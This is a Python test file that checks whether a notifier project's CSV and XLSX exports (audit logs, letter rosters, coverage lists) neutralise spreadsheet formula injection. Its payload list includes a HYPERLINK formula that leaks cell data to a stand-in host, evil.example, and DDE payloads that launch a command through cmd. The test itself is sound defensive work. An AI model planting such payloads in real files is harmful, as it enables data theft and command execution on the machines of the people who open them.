"""Formula injection: every CSV/XLSX the project writes (audit exports, coverage lists, letter
rosters) writes text that starts with = + - @ tab or CR with a leading ', and XLSX text cells as
strings, never formulas. Real files, read back with csv and openpyxl."""

from __future__ import annotations

import asyncio
import csv
import json
from pathlib import Path

import openpyxl
import pytest

from notifier.app import App
from notifier.audit import log as audit
from notifier.audit.export import ExportFilter, export_events
from notifier.cellsafe import safe_cell
from notifier.channels.base import OutboundMessage, ProviderContext
from notifier.channels.letter import LetterProvider
from notifier.cli import main
from notifier.status import Channel
from tests.support.campaign import campaign

EVIL = [
    '=HYPERLINK("http://evil.example/?"&A1,"点此")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize(
    "value, written",
    [
        *[(v, "'" + v) for v in EVIL],
        ("+86139****5678", "'+86139****5678"),  # a masked E.164 number too: see cellsafe's docstring
        ("张三", "张三"),
        ("phone:+86139****5678", "phone:+86139****5678"),
        ("a=b", "a=b"),
        ("", ""),
        (None, None),
        (-5, -5),
        (1.5, 1.5),
        (True, True),
    ],
)
def test_safe_cell(value: object, written: object) -> None:
    assert safe_cell(value) == written


def test_audit_export_csv_and_xlsx_neutralise_formulas(app: App, tmp_path: Path) -> None:
    with app.engine.begin() as conn:
        for actor in EVIL:
            audit.record(conn, actor, "test.evil", EVIL[0], note="x")
    csv_file, xlsx_file, jsonl_file = tmp_path / "e.csv", tmp_path / "e.xlsx", tmp_path / "e.jsonl"
    for path, fmt in ((csv_file, "csv"), (xlsx_file, "xlsx"), (jsonl_file, "jsonl")):
        export_events(app, path, fmt, ExportFilter())
    rows = list(csv.reader(csv_file.open(encoding="utf-8-sig", newline="")))[1:-1]
    assert [(r[2], r[4]) for r in rows] == [("'" + a, "'" + EVIL[0]) for a in EVIL]
    ws = openpyxl.load_workbook(xlsx_file).active
    cells = [row for row in ws.iter_rows(min_row=2, max_row=len(EVIL) + 1)]
    # (XML turns a stored CR into LF when read back)
    assert [(c[2].value, c[4].value) for c in cells] == [
        ("'" + a.replace("\r", "\n"), "'" + EVIL[0]) for a in EVIL
    ]
    assert all(c.data_type == "s" for row in cells for c in row if isinstance(c.value, str))
    assert all(not str(c.value).startswith("=") for row in ws.iter_rows() for c in row)
    # JSON Lines is not a spreadsheet: values stay exactly as recorded
    assert [
        json.loads(line)["actor"] for line in jsonl_file.read_text(encoding="utf-8").splitlines()[:-1]
    ] == EVIL


def test_letter_roster_neutralises_formulas(tmp_path: Path) -> None:
    async def send() -> None:
        p = LetterProvider("letter", {"dir": "letters"}, ProviderContext(tmp_path))
        await p.send(
            OutboundMessage(
                delivery_id=1,
                run_id=3,
                channel=Channel.LETTER,
                resident_id="R1",
                recipient=EVIL[1],
                recipient_name=EVIL[0],
                body="<p>x</p>",
                meta={"township": EVIL[3], "village": EVIL[2], "title": "@通知"},
            )
        )
        await p.close()

    asyncio.run(send())
    [row] = list(csv.reader((tmp_path / "letters" / "run-3-roster.csv").open(encoding="utf-8-sig")))[1:]
    assert row[3:8] == ["'" + EVIL[0], "'" + EVIL[3], "'" + EVIL[2], "'" + EVIL[1], "'@通知"]


def test_coverage_list_neutralises_formulas(
    capsys: pytest.CaptureFixture[str], app: App, project: Path, tmp_path: Path
) -> None:
    run_id = campaign(app, tmp_path)
    with app.engine.begin() as conn:  # a resident id as a hostile register could carry it
        conn.exec_driver_sql("UPDATE deliveries SET resident_id = '=1+1' WHERE resident_id = 'F01'")
    for fmt in ("csv", "xlsx"):
        out = tmp_path / f"cov.{fmt}"
        main(["--config", str(project), "audit", "coverage", str(run_id), "--format", fmt, "-o", str(out)])
        capsys.readouterr()
        if fmt == "csv":
            ids = [r[0] for r in csv.reader(out.open(encoding="utf-8-sig"))]
        else:
            ids = [r[0].value for r in openpyxl.load_workbook(out).active.iter_rows()]
        assert "'=1+1" in ids and "=1+1" not in ids
